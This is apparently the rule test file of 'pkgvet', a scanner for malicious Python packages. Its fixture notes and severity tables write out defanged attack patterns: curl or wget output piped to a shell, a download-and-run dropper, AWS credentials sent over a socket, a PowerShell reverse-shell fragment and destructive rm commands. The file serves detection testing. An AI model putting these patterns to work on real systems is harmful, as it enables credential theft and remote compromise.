"""Every rule has a must-fire and a must-not-fire fixture, checked here.

Fixtures live in ``tests/fixtures/rules/<RULE_ID>/fire/`` and ``.../quiet/``: small, inert,
unpacked package trees. A line of a fire fixture that ends in ``# pkgvet-expect: <RULE_ID>`` is
where that rule must report; the set of reported (file, line) pairs must equal the set of marked
ones. Package-level rules report at line 0 (metadata, binaries, archive structure), so for them
only the marked file is compared. :data:`SPECS` says, for each rule, the severity of its fire
findings and what "quiet" means: no finding of the rule at all, or none above a stated severity.

Binaries and hostile archive structure cannot be committed as files: those fixture directories
hold a ``BUILD.md`` and :data:`SPECS` names a builder that packs the directory into an archive in
``tmp_path`` (adding the generated members) before it is scanned with ``scan_bytes``.

Most rules are high only for code that runs by merely installing or importing the package
(setup.py, a .pth file, a top-level package ``__init__.py`` outside function bodies, decoded
payloads; see :func:`pkgvet.rules.base.eager`) and medium for run-time-only code, so fire
fixtures put their code on the high path and :data:`SEVERITY_PATHS` pins the other paths.

The last sections hold regression tests of fixed rule bugs and the known weaknesses that remain,
as strict xfails: each passes once the rule is fixed, and must then lose its marker.
"""

from __future__ import annotations

import ast
import base64
import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from conftest import FIXTURES, make_tar, make_zip, sdist
from pkgvet.config import ScanConfig
from pkgvet.models import Category, Finding, ScanResult, Severity
from pkgvet.pipeline import scan_bytes, scan_target
from pkgvet.rules.registry import load_rules

RULE_FIXTURES = FIXTURES / "rules"
RULES = load_rules()
RULE_IDS = sorted(RULES)
MARKER = re.compile(r"#\s*pkgvet-expect:\s*(PV\d{3}(?:\s*,\s*PV\d{3})*)")
ELF = b"\x7fELF" + b"\x00" * 200

# --------------------------------------------------------------------------------------------
# Archive builders (for fixtures that cannot be plain files)


@dataclass(frozen=True)
class Built:
    data: bytes
    filename: str
    root: str = ""  # archive folder stripped from finding paths before they are compared
    expect: tuple[str, ...] = ()  # package-relative paths the rule must report besides markers


def _files(d: Path) -> dict[str, bytes]:
    """The fixture directory's files by relative path (``BUILD.md`` is documentation only)."""
    return {p.relative_to(d).as_posix(): p.read_bytes()
            for p in sorted(d.rglob("*")) if p.is_file() and p.name != "BUILD.md"}


def _build_pv701_fire(d: Path) -> Built:
    files = {**_files(d), "mypkg/assets/logo.png": ELF, "mypkg/bin/helper": ELF}
    return Built(sdist("fixture-pv701-fire", "1.0", files), "fixture-pv701-fire-1.0.tar.gz",
                 root="fixture-pv701-fire-1.0/",
                 expect=("mypkg/assets/logo.png", "mypkg/bin/helper"))


def _build_pv701_quiet(d: Path) -> Built:
    files = {
        **_files(d),
        "mypkg/_speedups.cpython-311-x86_64-linux-gnu.so": ELF,
        "mypkg/data/mz.txt": b"MZ is the magic number of DOS executables.\n",
        "mypkg/data/stub.dat": b"MZ" + b"\x00" * 400,
    }
    return Built(make_zip(files), "fixture_pv701_quiet-1.0-cp311-cp311-manylinux_2_17_x86_64.whl")


def _build_pv805_fire(d: Path) -> Built:
    return Built(sdist("acme-tools", "1.0", _files(d)), "acme-tools-1.0.tar.gz",
                 root="acme-tools-1.0/")


def _build_pv805_quiet(d: Path) -> Built:
    return Built(sdist("Fixture_PV805.Quiet", "1.0", _files(d)), "Fixture_PV805.Quiet-1.0.tar.gz",
                 root="Fixture_PV805.Quiet-1.0/")


def _build_pv806_fire(d: Path) -> Built:
    root = "fixture-pv806-fire-1.0/"
    files = {root + k: v for k, v in _files(d).items()}
    files[root + "../../escape.txt"] = b"path traversal\n"
    files["/tmp/fixture-pv806-absolute.txt"] = b"absolute path\n"
    data = make_tar(files, symlinks={root + "mypkg/config.py": "../../../outside.txt"})
    return Built(data, "fixture-pv806-fire-1.0.tar.gz", root=root,
                 expect=("../../escape.txt", "/tmp/fixture-pv806-absolute.txt",
                         "mypkg/config.py"))


def _build_pv806_quiet(d: Path) -> Built:
    root = "fixture-pv806-quiet-1.0/"
    files = {root + k: v for k, v in _files(d).items()}
    dirs = (root, root + "mypkg/", root + "docs/")
    return Built(make_tar(files, dirs=dirs), "fixture-pv806-quiet-1.0.tar.gz", root=root)


# --------------------------------------------------------------------------------------------
# What each rule's fixtures must produce


@dataclass(frozen=True)
class Spec:
    fire: Severity  # severity of every finding the fire fixture must produce
    quiet_max: Severity | None = None  # most severe finding of the rule tolerated in quiet/
    package_level: bool = False  # reports at line 0: compare the marked file only
    build_fire: Callable[[Path], Built] | None = None
    build_quiet: Callable[[Path], Built] | None = None
    note: str = ""  # what the fixtures do


S = Severity
SPECS: dict[str, Spec] = {
    "PV101": Spec(S.MEDIUM, quiet_max=S.LOW, note=(
        "fire: os.system in setup.py (install time: medium). quiet: subprocess.run of git in a "
        "run-time module, reported low only, so quiet means nothing at medium or above.")),
    "PV102": Spec(S.HIGH, note=(
        "fire: `curl … | sh` passed to subprocess in setup.py and `wget -qO- … | bash` in a "
        "shipped run.sh that setup.py names (scripts=, so high; unnamed it is medium). quiet: "
        "curl/wget downloading to a file (-o) and a checksum check.")),
    "PV103": Spec(S.HIGH, note=(
        "fire: os.system(base64.b64decode(...).decode()) in setup.py, decoding to `echo 1`. "
        "quiet: a literal git command and a decoded value that is never run.")),
    "PV201": Spec(S.HIGH, note=(
        "fire: exec(base64.b64decode(...)) of print(1) in setup.py. quiet: "
        "exec(open('mypkg/version.py').read(), about) in setup.py.")),
    "PV202": Spec(S.HIGH, note=(
        "fire: exec(urlopen(url).read()). quiet: import-time code that uses requests and execs "
        "a local file it opens.")),
    "PV203": Spec(S.HIGH, note=(
        "fire: setup.py urlretrieve + chmod + Popen (install time: high). quiet: run-time code "
        "that downloads JSON, writes it as text and runs git.")),
    "PV206": Spec(S.HIGH, note=(
        "fire: setup.py writes print(1) to helper.pyw in the temp folder and starts it with "
        "sys.executable (install time: high). quiet: run-time code that writes a C source and "
        "compiles it, and writes a version module, then runs git.")),
    "PV204": Spec(S.LOW, note=(
        "fire: exec(open(version file).read()) in setup.py (low; high beside a scrambled "
        "literal, see SEVERITY_PATHS). quiet: version read with ast.literal_eval, and "
        "exec(compile(...)) only in a run-time module.")),
    "PV205": Spec(S.HIGH, note=(
        "fire: marshal.loads of the marshalled code object of print(1) at module level of the "
        "package __init__ (import time: high). quiet: marshal.dumps to write a cache.")),
    "PV301": Spec(S.HIGH, note=(
        "fire: Chrome 'User Data\\Default\\Login Data' path plus requests.post (can send: high)."
        " quiet: selenium with its own --user-data-dir, and the word 'firefox'.")),
    "PV302": Spec(S.HIGH, quiet_max=S.MEDIUM, note=(
        "fire: 'discord\\Local Storage\\leveldb'. quiet: a Discord bot posting to /channels "
        "with its bot token and checking it at /users/@me (medium by design, so quiet means no "
        "high), and the words 'Local Storage'.")),
    "PV303": Spec(S.MEDIUM, note=(
        "fire: Exodus 'exodus.wallet' path, no network (alone: medium). quiet: a wallet library"
        " with its own wallet.json and the words bitcoin/keystore.")),
    "PV304": Spec(S.HIGH, note=(
        "fire: ~/.aws/credentials read and sent over a socket at module level of the package "
        "__init__ (import time: high). quiet: ~/.ssh/known_hosts, ~/.ssh/config and "
        "~/.aws/config with paramiko.")),
    "PV305": Spec(S.HIGH, note=(
        "fire: json.dumps(dict(os.environ)) posted from setup.py (install: high). quiet: "
        "os.environ.copy() for a subprocess, no network.")),
    "PV306": Spec(S.HIGH, quiet_max=S.MEDIUM, note=(
        "fire: getpass.getuser() and socket.gethostname() sent by urlopen from setup.py. quiet:"
        " setup.py checks sys.platform without network, and a run-time HTTP client puts "
        "platform.platform() in its User-Agent (medium by design), so quiet means no high.")),
    "PV307": Spec(S.MEDIUM, note=(
        "fire: pyperclip.paste() with no network (medium). quiet: pyperclip.copy().")),
    "PV401": Spec(S.HIGH, note=(
        "fire: a discord.com/api/webhooks URL with a fake id at module level of the package "
        "__init__ (import time: high). quiet: a configurable webhook on example.invalid and the "
        "word 'webhook'.")),
    "PV402": Spec(S.HIGH, note=(
        "fire: an *.ngrok.io collector URL in setup.py. quiet: non-raw pastebin profile, a "
        "raw.githubusercontent CSV, 'interactive' words.")),
    "PV403": Spec(S.HIGH, note=(
        "fire: urlopen('http://51.15.64.7:8080/...') in setup.py (install + network: high). quiet:"
        " loopback, private and documentation (203.0.113.x) addresses.")),
    "PV404": Spec(S.CRITICAL, note=(
        "fire: socket + os.dup2 onto 0/1/2 + pty.spawn. quiet: a daemon that dup2s its output "
        "to a log file and serves a health socket, starting no process.")),
    "PV405": Spec(S.HIGH, note=(
        "fire: gethostbyname(f'{getpass.getuser()}.example.invalid'). quiet: gethostbyname of "
        "a host name read from the environment as it is.")),
    "PV406": Spec(S.MEDIUM, note=(
        "fire: urlopen in setup.py. quiet: URLs only as setup() metadata; requests at run "
        "time.")),
    "PV407": Spec(S.HIGH, note=(
        "fire: a run-time function runs a program and posts to a raw public IP (a string only). "
        "quiet: the same with a named host.")),
    "PV408": Spec(S.HIGH, note=(
        "fire: urlopen of a base64-decoded URL at module level of the package __init__ (import "
        "time: high). quiet: an API client that uploads base64-decoded content to a plain URL "
        "and decodes a response.")),
    "PV501": Spec(S.HIGH, note=(
        "fire: winreg.SetValueEx under CurrentVersion\\Run, called on import. quiet: printed "
        "instructions naming "
        "~/.bashrc (no write, no process), cron expressions, a STARTUP_TIMEOUT constant.")),
    "PV502": Spec(S.HIGH, note=(
        "fire: powershell Add-MpPreference -ExclusionPath. quiet: powershell "
        "Get-MpComputerStatus for a diagnostics report.")),
    "PV601": Spec(S.MEDIUM, note=(
        "fire: a base64 literal of harmless Python (a greeting function; no active APIs: "
        "medium), reported at the literal's line. quiet: base64 of a PNG icon and of JSON.")),
    "PV602": Spec(S.LOW, note=(
        "fire: 2,400 characters of pseudo-random base64. quiet: a 3,200-character hex vector "
        "(entropy 4 bits) and long prose.")),
    "PV603": Spec(S.HIGH, note=(
        "fire: __obfuscator__ = 'BlankOBF v2'. quiet: a docstring about tokens 'obfuscated by "
        "the keyring backend'.")),
    "PV604": Spec(S.HIGH, note=(
        "fire: ;print(1) after 160 spaces on the __version__ line. quiet: a whitespace-only "
        "line of 200 spaces, a bracket continuation that starts 170 columns right, a comment "
        "after 40 spaces, padding built with ' ' * 160.")),
    "PV605": Spec(S.HIGH, note=(
        "fire: __import__('o' + 's'). quiet: importlib.import_module(f'mypkg.plugins.{name}'), "
        "getattr(module, attr) and import_module('json').")),
    "PV606": Spec(S.HIGH, note=(
        "fire: PIL Image.open + exec of bytes from the pixels at module level of the package "
        "__init__ (import time: high). quiet: PIL thumbnails.")),
    "PV607": Spec(S.HIGH, note=(
        "fire: a base64 'MZ' header (zero bytes after it) written to helper.exe at module level "
        "of the package __init__. quiet: a base64 PNG icon written to disk and a hex vector.")),
    "PV608": Spec(S.HIGH, note=(
        "fire: eval of a hex-escaped 'eval', then eval('__import__(\\'base64\\')') and "
        "eval('exec') through it, running print(1). quiet: eval of arithmetic and of a dotted "
        "type name, getattr(builtins, 'print').")),
    "PV701": Spec(S.HIGH, package_level=True, build_fire=_build_pv701_fire,
                  build_quiet=_build_pv701_quiet, note=(
        "fire (built sdist): an ELF named logo.png (disguised) and an extension-less ELF "
        "started by subprocess in mypkg/run.py. quiet (built wheel): an ELF extension module "
        "*.cpython-311-x86_64-linux-gnu.so and two non-PE files starting with 'MZ'.")),
    "PV801": Spec(S.MEDIUM, note=(
        "fire: cmdclass={'install': PostInstall} whose run() calls subprocess (reported at the "
        "class line). quiet: build_ext overridden to run CMake.")),
    "PV802": Spec(S.MEDIUM, note=(
        "fire: a .pth line `import sys; print(1, file=sys.stderr)`. quiet: a .pth of path "
        "entries and a plain `import _fixture_pv802_hook`.")),
    "PV803": Spec(S.MEDIUM, package_level=True, note=(
        "fire: PKG-INFO Version 99.0.0, no install-time network (alone: medium). quiet: "
        "Version 9.99.0.")),
    "PV804": Spec(S.INFO, package_level=True, note=(
        "fire: PKG-INFO summary 'A small example package' and no author. quiet: a real summary"
        " and only an Author-email.")),
    "PV805": Spec(S.LOW, package_level=True, build_fire=_build_pv805_fire,
                  build_quiet=_build_pv805_quiet, note=(
        "fire (built sdist): acme-tools-1.0.tar.gz whose PKG-INFO says fixture-pv805-fire. "
        "quiet: Fixture_PV805.Quiet-1.0.tar.gz for fixture-pv805-quiet (same once "
        "normalised).")),
    "PV806": Spec(S.MEDIUM, package_level=True, build_fire=_build_pv806_fire,
                  build_quiet=_build_pv806_quiet, note=(
        "fire (built sdist): a ../../ member, an absolute member and a symlink. quiet: "
        "directory members and a file name containing '..' that is no '..' component.")),
    "PV807": Spec(S.MEDIUM, package_level=True, note=(
        "fire: Name reqeusts (transposition of requests). quiet: Name python-dateutil, a "
        "popular project under its own name.")),
}


# --------------------------------------------------------------------------------------------
# Helpers


def _spec(rule_id: str) -> Spec:
    spec = SPECS.get(rule_id)
    assert spec is not None, f"{rule_id} has no entry in SPECS of tests/test_rules.py"
    return spec


def _markers(d: Path, rule_id: str) -> set[tuple[str, int]]:
    """(relative path, line) of every ``# pkgvet-expect:`` marker naming ``rule_id``."""
    out = set()
    for p in sorted(d.rglob("*")):
        if not p.is_file() or p.name == "BUILD.md":
            continue
        text = p.read_text(encoding="utf-8")
        for n, line in enumerate(text.splitlines(), 1):
            m = MARKER.search(line)
            if m and rule_id in re.split(r"\s*,\s*", m.group(1)):
                out.add((p.relative_to(d).as_posix(), n))
    return out


def _scan(rule_id: str, kind: str, tmp_path: Path) -> tuple[ScanResult, Built | None]:
    d = RULE_FIXTURES / rule_id / kind
    spec = _spec(rule_id)
    build = spec.build_fire if kind == "fire" else spec.build_quiet
    if build is None:
        return scan_target(d), None
    built = build(d)
    archive = tmp_path / built.filename
    archive.write_bytes(built.data)
    return scan_bytes(archive.read_bytes(), built.filename, ScanConfig()), built


def _healthy(result: ScanResult) -> None:
    assert result.error is None, result.error
    failed = [s for s in result.skips if s.reason.startswith("rule ")]
    assert not failed, f"rules crashed: {failed}"


def _show(findings: list[Finding]) -> str:
    return "\n".join(f"  {f.rule_id} {f.severity.value} {f.path}:{f.line} {f.message}"
                     for f in findings) or "  (none)"


# --------------------------------------------------------------------------------------------
# The registry


def test_rule_ids_are_unique_and_well_formed() -> None:
    assert RULE_IDS, "no rules registered"
    for rule_id, r in RULES.items():
        assert re.fullmatch(r"PV\d{3}", rule_id), rule_id
        assert r.meta.id == rule_id
    names = [r.meta.name for r in RULES.values()]
    assert len(names) == len(set(names)), "rule names must be unique"


@pytest.mark.parametrize("rule_id", RULE_IDS)
def test_rule_metadata(rule_id: str) -> None:
    meta = RULES[rule_id].meta
    assert meta.description.strip(), f"{rule_id} needs a docstring"
    assert meta.title.strip()
    assert isinstance(meta.category, Category)
    assert isinstance(meta.severity, Severity)
    assert re.fullmatch(r"[a-z0-9]+(?:-[a-z0-9]+)*", meta.name), meta.name


def test_every_rule_has_a_spec_and_no_orphan_fixtures() -> None:
    assert set(SPECS) == set(RULES), "SPECS must list exactly the registered rules"
    dirs = {p.name for p in RULE_FIXTURES.iterdir() if p.is_dir()}
    assert dirs == set(RULES), (f"fixture folders without a rule: {sorted(dirs - set(RULES))}, "
                                f"rules without fixtures: {sorted(set(RULES) - dirs)}")


# --------------------------------------------------------------------------------------------
# The fixtures


@pytest.mark.parametrize("rule_id", RULE_IDS)
def test_fixture_dirs_exist(rule_id: str) -> None:
    for kind in ("fire", "quiet"):
        d = RULE_FIXTURES / rule_id / kind
        assert d.is_dir() and any(d.iterdir()), f"missing fixture {d}"
    if _spec(rule_id).build_fire is None:
        assert _markers(RULE_FIXTURES / rule_id / "fire", rule_id), (
            f"{rule_id}/fire has no '# pkgvet-expect: {rule_id}' marker")


def _header(p: Path) -> str:
    """The opening comment: the first line, or the first body line of core metadata (headers
    must come first there)."""
    lines = p.read_text(encoding="utf-8").splitlines()
    if p.name in ("PKG-INFO", "METADATA"):
        lines = lines[lines.index("") + 1:]
    return lines[0] if lines else ""


@pytest.mark.parametrize("rule_id", RULE_IDS)
def test_fixture_files_open_with_a_header_comment(rule_id: str) -> None:
    expected = {"fire": f"Positive test for {rule_id} (must fire).",
                "quiet": f"Negative test for {rule_id}: must not fire"}
    bad = []
    for kind, phrase in expected.items():
        for p in sorted((RULE_FIXTURES / rule_id / kind).rglob("*")):
            if p.is_file() and not _header(p).startswith(f"# {phrase}"):
                bad.append(f"{p.relative_to(RULE_FIXTURES)}: {_header(p)!r}")
    assert not bad, "fixture files must open with '# " + "'/'# ".join(expected.values()) + \
        "':\n" + "\n".join(bad)


@pytest.mark.parametrize("rule_id", RULE_IDS)
def test_rule_fires_on_its_fixture(rule_id: str, tmp_path: Path) -> None:
    spec = _spec(rule_id)
    result, built = _scan(rule_id, "fire", tmp_path)
    _healthy(result)
    root = built.root if built else ""
    want = _markers(RULE_FIXTURES / rule_id / "fire", rule_id)
    if spec.package_level:
        want = {(path, 0) for path, _ in want}
    want |= {(path, 0) for path in (built.expect if built else ())}
    assert want, "nothing to expect"
    own = [f for f in result.findings if f.rule_id == rule_id]
    got = {(f.path.removeprefix(root), f.line) for f in own}
    assert got == want, (f"{rule_id} reported at {sorted(got)}, expected {sorted(want)} "
                         f"({spec.note}):\n" + _show(result.findings))
    wrong = [f for f in own if f.severity is not spec.fire]
    assert not wrong, f"expected severity {spec.fire.value}:\n" + _show(wrong)


@pytest.mark.parametrize("rule_id", RULE_IDS)
def test_rule_is_quiet_on_its_near_miss(rule_id: str, tmp_path: Path) -> None:
    spec = _spec(rule_id)
    result, _ = _scan(rule_id, "quiet", tmp_path)
    _healthy(result)
    own = [f for f in result.findings if f.rule_id == rule_id]
    if spec.quiet_max is None:
        assert not own, (f"{rule_id} must not fire on its quiet fixture ({spec.note}):\n"
                         + _show(own))
    else:
        over = [f for f in own if f.severity > spec.quiet_max]
        assert not over, (f"{rule_id} must stay at or below {spec.quiet_max.value} on its "
                          "quiet fixture:\n" + _show(over))


# --------------------------------------------------------------------------------------------
# Severity paths: the same code is high on the install/import path and medium at run time


@dataclass(frozen=True)
class SevPath:
    rule_id: str
    files: dict[str, str]
    path: str  # where the finding must be (package-relative)
    line: int
    severity: Severity  # the exact severity of every finding of the rule
    note: str


# A metadata file keeps mypkg/ a top-level package: an unpacked tree whose only entry is one
# folder is read as an sdist root, and that folder's name is stripped.
_PKG_INFO = ("Metadata-Version: 2.1\nName: fixture-sev\nVersion: 1.0\n"
             "Summary: Fixture package for pkgvet rule tests\nAuthor: Example Author\n")
_SETUP = "from setuptools import setup\n\nsetup(name='fixture-sev', version='1.0')\n"
_RUN_SH = "set -e\nwget -qO- https://example.invalid/agent.sh | bash\n"
_MARSHAL = "b'c\\x00\\x00\\x00\\x00print\\x00<fixture>'"  # never unmarshalled
_WEBHOOK = "https://discord.com/api/webhooks/000000000000000000/EXAMPLE-not-a-token"
_STARTUP = r"Microsoft\\Windows\\Start Menu\\Programs\\Startup"


def _dropper(url: str) -> str:
    return ("import os\n"
            "import subprocess\n"
            "import urllib.request\n"
            "\n"
            "\n"
            "def update():\n"
            f"    urllib.request.urlretrieve({url!r}, '/tmp/agent.bin')\n"
            "    os.chmod('/tmp/agent.bin', 0o755)\n"
            "    subprocess.Popen(['/tmp/agent.bin'])\n")


def _xor_setup() -> str:
    """setup.py whose install command execs an XOR-scrambled bytes literal (of print(1))
    through a helper of its own, which static decoding does not follow."""
    blob = bytes(b ^ 0x2A for b in b"print(1)\n" * 16)
    return ("from setuptools import setup\n"
            "from setuptools.command.install import install\n"
            "\n"
            f"DATA = {blob!r}\n"
            "\n"
            "\n"
            "def _unscramble(blob, key):\n"
            "    return bytes(b ^ key for b in blob).decode()\n"
            "\n"
            "\n"
            "class Install(install):\n"
            "    def run(self):\n"
            "        install.run(self)\n"
            "        exec(_unscramble(DATA, 0x2A))\n"
            "\n"
            "\n"
            "setup(name='fixture-sev', version='1.0', cmdclass={'install': Install})\n")


SEVERITY_PATHS = {
    "pv101-foreign-program-at-install": SevPath("PV101", {"setup.py": (
        "import os\n"
        "\n"
        "os.system('dir')\n")},
        "setup.py", 3, S.HIGH, "a program that is not a build tool, started from setup.py"),
    "pv101-build-tool-at-install": SevPath("PV101", {"setup.py": (
        "import subprocess\n"
        "\n"
        "subprocess.check_call(['cmake', '--version'])\n")},
        "setup.py", 3, S.MEDIUM, "a build tool started from setup.py"),
    "pv102-unnamed-shipped-script": SevPath("PV102", {"setup.py": _SETUP, "run.sh": _RUN_SH},
        "run.sh", 2, S.MEDIUM, "a shipped script that no install-time code names"),
    "pv102-script-listed-as-an-asset": SevPath("PV102", {
        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": (
            "ASSETS = ['static/bundle.js', 'static/run.sh']\n"), "mypkg/static/run.sh": _RUN_SH},
        "mypkg/static/run.sh", 2, S.MEDIUM,
        "a script named in an asset list on import, by code that starts no program"),
    "pv102-script-started-on-import": SevPath("PV102", {
        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": (
            "import subprocess\n"
            "\n"
            "SCRIPT = 'run.sh'\n"
            "subprocess.run(['sh', SCRIPT], check=False)\n"), "mypkg/run.sh": _RUN_SH},
        "mypkg/run.sh", 2, S.HIGH, "a script named by import-time code that starts programs"),
    "pv102-base64-to-bash": SevPath("PV102", {"setup.py": (
        "import os\n"
        "\n"
        "os.system('echo ZWNobyAx | base64 -d | bash')\n")},  # decodes to `echo 1`
        "setup.py", 3, S.HIGH, "echo … | base64 -d | bash at install time"),
    "pv102-curl-upload": SevPath("PV102", {"setup.py": (
        "import os\n"
        "\n"
        "os.system('curl -F a=@/etc/hostname http://example.invalid')\n")},
        "setup.py", 3, S.HIGH, "curl uploading a local file at install time"),
    "pv203-raw-ip-at-run-time": SevPath("PV203", {
        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": "", "mypkg/update.py": _dropper(
            "http://51.15.64.7/agent.bin")},  # a string only: nothing is ever contacted
        "mypkg/update.py", 7, S.HIGH, "run-time dropper fetching from a raw public IP"),
    "pv203-placeholder-ip-at-run-time": SevPath("PV203", {
        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": "", "mypkg/update.py": _dropper(
            "http://1.2.3.4:3218/agent.bin")},
        "mypkg/update.py", 7, S.MEDIUM, "an example address (1.2.3.4) is no raw public IP"),
    "pv203-named-host-at-run-time": SevPath("PV203", {
        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": "", "mypkg/update.py": _dropper(
            "https://example.invalid/agent.bin")},
        "mypkg/update.py", 7, S.MEDIUM, "run-time updater fetching from a named host"),
    "pv203-raw-ip-in-tests": SevPath("PV203", {
        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": "", "tests/test_update.py": _dropper(
            "http://51.15.64.7/agent.bin")},
        "tests/test_update.py", 7, S.MEDIUM, "run-time findings in test folders: capped"),
    "pv203-raw-ip-in-bundled-virtualenv": SevPath("PV203", {
        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": "",
        "venv/lib/python3.11/site-packages/updater/core.py": _dropper(
            "http://51.15.64.7/agent.bin")},
        "venv/lib/python3.11/site-packages/updater/core.py", 7, S.MEDIUM,
        "run-time code of a virtualenv shipped by mistake: capped"),
    "pv203-raw-ip-in-bdist-dumb-site-packages": SevPath("PV203", {
        "PKG-INFO": _PKG_INFO,
        "Program Files/Python311/Lib/site-packages/mypkg/update.py": _dropper(
            "http://51.15.64.7/agent.bin")},
        "Program Files/Python311/Lib/site-packages/mypkg/update.py", 7, S.HIGH,
        "a built distribution's install tree is the package itself: not capped"),
    "pv204-xor-literal-in-cmdclass": SevPath("PV204", {"setup.py": _xor_setup()},
        "setup.py", 14, S.HIGH, "install-time exec beside a scrambled literal"),
    "pv205-run-time": SevPath("PV205", {
        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": "", "mypkg/_fast.py": (
            "import marshal\n"
            "\n"
            "\n"
            "def _load():\n"
            f"    return marshal.loads({_MARSHAL})\n")},
        "mypkg/_fast.py", 5, S.MEDIUM, "marshal.loads in a run-time function, no exec"),
    "pv304-run-time": SevPath("PV304", {
        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": "", "mypkg/telemetry.py": (
            "import os\n"
            "import socket\n"
            "\n"
            "\n"
            "def _send():\n"
            "    with open(os.path.expanduser('~/.aws/credentials'), 'rb') as fh:\n"
            "        data = fh.read()\n"
            "    with socket.create_connection(('example.invalid', 443)) as s:\n"
            "        s.sendall(data)\n")},
        "mypkg/telemetry.py", 6, S.MEDIUM, "credentials sent from a run-time function"),
    "pv306-popen-whoami-in-setup": SevPath("PV306", {"setup.py": (
        "import os\n"
        "import urllib.request\n"
        "\n"
        "user = os.popen('whoami').read()\n"
        "urllib.request.urlopen('https://example.invalid/?u=' + user)\n")},
        "setup.py", 4, S.HIGH, "a recon command's output sent at install time"),
    "pv102-powershell-tcpclient": SevPath("PV102", {"setup.py": (
        "import os\n"
        "\n"
        "os.system('powershell -nop -c \"$c = New-Object System.Net.Sockets.TCPClient(' +\n"
        "          '\\'example.invalid\\', 4444)\"')\n")},
        "setup.py", 3, S.HIGH, "a PowerShell TCP client (the reverse-shell one-liner)"),
    "pv202-response-through-a-name": SevPath("PV202", {
        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": (
            "import requests\n"
            "\n"
            "code = requests.get('https://example.invalid/stage2.txt').text\n"
            "exec(code)\n")},
        "mypkg/__init__.py", 4, S.HIGH, "a response held in a variable, then executed"),
    "pv203-script-written-as-text": SevPath("PV203", {"setup.py": (
        "import subprocess\n"
        "import urllib.request\n"
        "\n"
        "body = urllib.request.urlopen('https://example.invalid/s.txt').read().decode()\n"
        "with open('/tmp/stage2.py', 'w') as fh:\n"
        "    fh.write(body)\n"
        "subprocess.Popen(['python3', '/tmp/stage2.py'])\n")},
        "setup.py", 4, S.HIGH, "a fetched script written in text mode and started at install"),
    "pv203-named-temporary-file": SevPath("PV203", {"setup.py": (
        "import subprocess\n"
        "import tempfile\n"
        "import requests\n"
        "\n"
        "data = requests.get('https://example.invalid/a.bin').content\n"
        "tmp = tempfile.NamedTemporaryFile(delete=False, suffix='.exe')\n"
        "tmp.write(data)\n"
        "subprocess.Popen([tmp.name])\n")},
        "setup.py", 5, S.HIGH, "a download written through a named temporary file"),
    "pv203-git-clone-and-run": SevPath("PV203", {"setup.py": (
        "import subprocess\n"
        "import git\n"
        "\n"
        "git.Repo.clone_from('https://example.invalid/x.git', '/tmp/x')\n"
        "subprocess.call(['python3', '/tmp/x/run.py'])\n")},
        "setup.py", 4, S.HIGH, "a repository cloned and its script run at install"),
    "pv206-os-startfile-of-a-literal": SevPath("PV206", {"setup.py": (
        "import os\n"
        "\n"
        "open('run.bat', 'w').write('echo 1')\n"
        "os.startfile('run.bat')\n")},
        "setup.py", 4, S.HIGH, "a batch file written and started by its literal name"),
    "pv206-path-built-by-concatenation": SevPath("PV206", {"setup.py": (
        "import os\n"
        "import subprocess\n"
        "\n"
        "p = os.getenv('TEMP', '/tmp') + '/x.pyw'\n"
        "open(p, 'w').write('print(1)')\n"
        "subprocess.Popen(['pythonw', p])\n")},
        "setup.py", 6, S.HIGH, "a path held in a name assigned a .pyw concatenation"),
    "pv206-pathlib-in-setup": SevPath("PV206", {"setup.py": (
        "import subprocess\n"
        "from pathlib import Path\n"
        "\n"
        "script = Path('/tmp') / 'x.sh'\n"
        "script.write_text('echo 1')\n"
        "subprocess.call(['sh', str(script)])\n")},
        "setup.py", 6, S.HIGH, "a shell script written with pathlib and run at install"),
    "pv206-at-run-time": SevPath("PV206", {
        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": "", "mypkg/tool.py": (
            "import os\n"
            "import subprocess\n"
            "\n"
            "\n"
            "def run(folder):\n"
            "    script = os.path.join(folder, 'x.sh')\n"
            "    with open(script, 'w') as fh:\n"
            "        fh.write('echo 1')\n"
            "    subprocess.call(['sh', script])\n")},
        "mypkg/tool.py", 9, S.MEDIUM, "a shell script written and run on demand: medium"),
    "pv101-publish-guard": SevPath("PV101", {"setup.py": (
        "import os\n"
        "import sys\n"
        "from setuptools import setup\n"
        "\n"
        "if sys.argv[-1] == 'publish':\n"
        "    os.system('twine upload dist/*')\n"
        "    sys.exit()\n"
        "setup(name='x')\n")},
        "setup.py", 6, S.LOW, "a maintainer's publish branch, never run by pip"),
    "pv101-publish-function": SevPath("PV101", {"setup.py": (
        "import subprocess\n"
        "import sys\n"
        "\n"
        "def publish():\n"
        "    subprocess.run(['twine', 'upload', 'dist/*'])\n"
        "\n"
        "command = sys.argv[1]\n"
        "if command in ('publish', 'release'):\n"
        "    publish()\n")},
        "setup.py", 5, S.LOW, "a function only a maintainer command calls"),
    "pv101-rm-of-build-folders": SevPath("PV101", {"setup.py": (
        "import os\n"
        "from setuptools import setup\n"
        "\n"
        "os.system('rm -vrf ./build ./dist ./*.pyc ./*.egg-info')\n"
        "setup(name='x')\n")},
        "setup.py", 4, S.MEDIUM, "a build cleaning its own folders"),
    "pv101-rm-of-home": SevPath("PV101", {"setup.py": (
        "import os\n"
        "from setuptools import setup\n"
        "\n"
        "os.system('rm -rf ~/.config')\n"
        "setup(name='x')\n")},
        "setup.py", 4, S.HIGH, "rm outside the source tree"),
    "pv101-rm-chained": SevPath("PV101", {"setup.py": (
        "import os\n"
        "from setuptools import setup\n"
        "\n"
        "os.system('rm -rf build; id > out.txt')\n"
        "setup(name='x')\n")},
        "setup.py", 4, S.HIGH, "a cleanup with another command chained to it"),
    "pv101-rm-parent-folder": SevPath("PV101", {"setup.py": (
        "import subprocess\n"
        "from setuptools import setup\n"
        "\n"
        "subprocess.run(['rm', '-rf', 'build/../../docs'])\n"
        "setup(name='x')\n")},
        "setup.py", 4, S.HIGH, "rm climbing out of the source tree"),
    "pv101-cpu-probe": SevPath("PV101", {"setup.py": (
        "import subprocess\n"
        "from setuptools import setup\n"
        "\n"
